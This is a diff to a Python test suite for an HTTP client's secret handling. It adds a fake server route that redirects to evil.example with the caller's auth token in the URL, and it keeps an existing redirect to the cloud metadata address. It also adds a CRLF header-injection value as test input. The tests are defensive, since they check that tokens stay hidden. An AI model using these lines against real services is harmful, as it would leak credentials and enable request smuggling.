@@ -48,6 +48,13 @@ class Handler(BaseHTTPRequestHandler):
                 self.send_response(302)
                 self.send_header("Location", "http://169.254.169.254/latest/meta-data")
                 self.end_headers()
+            case "/echo":
+                self.send_response(302)
+                self.send_header("Location", f"https://evil.example/?token={self.headers['X-Auth-Token']}")
+                self.end_headers()
+            case "/reason":
+                self.send_response(403, f"{self.headers['X-Auth-Token']} may not")
+                self.end_headers()
             case "/busy":
                 self.answer(503, b"")
             case _:
@@ -136,6 +143,27 @@ def test_a_secret_is_read_from_the_environment_or_asked_for_by_its_name(web: Web
     assert web.secret("SHOP_KEY") == "k"
     with pytest.raises(Stop, match="OTHER_KEY is not set"):
         web.secret("OTHER_KEY")
+
+
+def test_the_end_of_line_that_a_file_of_secrets_has_is_not_the_secrets() -> None:
+    assert WebClient({"SHOP_KEY": "k\n"}).secret("SHOP_KEY") == "k"
+
+
+@pytest.mark.parametrize("value", ["a key\r\nHost: evil.example", "schl\u00fcssel-des-ladens"])
+def test_a_secret_that_no_header_can_hold_is_refused_without_being_named(value: str) -> None:
+    with pytest.raises(Stop, match="SHOP_KEY holds characters") as refusal:
+        WebClient({"SHOP_KEY": value}).secret("SHOP_KEY")
+    assert value[-8:] not in str(refusal.value)
+
+
+@pytest.mark.parametrize("path", ["/echo", "/reason"])
+def test_a_server_that_says_our_secret_back_does_not_make_us_tell_it(web: WebClient, place: str, path: str) -> None:
+    with pytest.raises(Drop) as refusal:
+        web.fetch(f"http://{place}{path}", HERE, {"X-Auth-Token": "Bearer canary-of-a-shop"})
+    assert "[hidden]" in str(refusal.value)
+    assert "canary" not in str(refusal.value)
+    assert refusal.value.__cause__ is None
+    assert refusal.value.__suppress_context__
 
 
 def test_buckets_are_read_by_a_deployment_only(web: WebClient) -> None:
